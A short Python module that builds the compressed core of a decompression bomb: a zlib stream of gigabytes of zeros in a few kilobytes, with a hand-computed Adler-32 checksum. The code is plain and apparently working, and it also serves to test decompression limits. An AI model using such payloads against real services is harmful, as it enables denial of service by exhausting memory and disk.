"""Zeros by the gigabyte in a few kilobytes: what bombs are filled with."""

import functools
import zlib

_BLOCK_BYTES = 1 << 20


def deflated_zeros(count: int) -> bytes:
    """So many zeros (rounded up to whole MiB) as a zlib stream, of which no more than one MiB is ever held."""
    blocks = -(-count // _BLOCK_BYTES)
    # Adler-32 of zeros: the first sum stays 1, the second is the count (RFC 1950, 8.2).
    checksum = (blocks * _BLOCK_BYTES % 65_521) << 16 | 1
    return b"\x78\xda" + _block() * blocks + b"\x03\x00" + checksum.to_bytes(4)


@functools.cache
def _block() -> bytes:
    """Ends at a whole byte and refers to nothing before it, so that it can be repeated (RFC 1951, 3.2.3)."""
    packer = zlib.compressobj(9, wbits=-15)
    return packer.compress(bytes(_BLOCK_BYTES)) + packer.flush(zlib.Z_FULL_FLUSH)
